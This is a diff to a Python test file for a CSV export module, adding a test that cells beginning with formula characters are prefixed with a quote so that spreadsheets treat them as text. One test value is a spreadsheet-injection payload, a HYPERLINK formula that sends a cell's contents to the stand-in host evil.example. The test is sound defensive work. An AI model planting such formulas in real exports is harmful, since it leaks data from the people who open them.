@@ -10,7 +10,7 @@ from pathlib import Path
 import pytest
 
 from arsip.schema import FIELD_ORDER
-from exports.exports import COLUMNS
+from exports.exports import COLUMNS, neutralise, to_csv
 from tools.build import build
 
 ARTICLES = {
@@ -124,3 +124,16 @@ def test_datapackage_names_both_files_and_the_licence(site: Path) -> None:
     ]
     for resource in package["resources"]:
         assert (site / "data" / resource["path"]).exists()
+
+
+@pytest.mark.parametrize(
+    "value",
+    ['=HYPERLINK("https://evil.example/?d="&A1,"klik")', "+1", "-2+3", "@SUM(A1)", "\t=1"],
+)
+def test_csv_cells_a_spreadsheet_would_evaluate_are_text(value: str) -> None:
+    record = dict.fromkeys(COLUMNS, "x") | {"tags": ["a"], "title_editorial": False}
+    text = to_csv([record | {"summary": value}])
+    row = next(csv.DictReader(io.StringIO(text, newline="")))
+    assert row["summary"] == "'" + value
+    assert neutralise("\r=1") == "'\r=1"
+    assert neutralise("Ringkasan = biasa") == "Ringkasan = biasa"  # only the first character
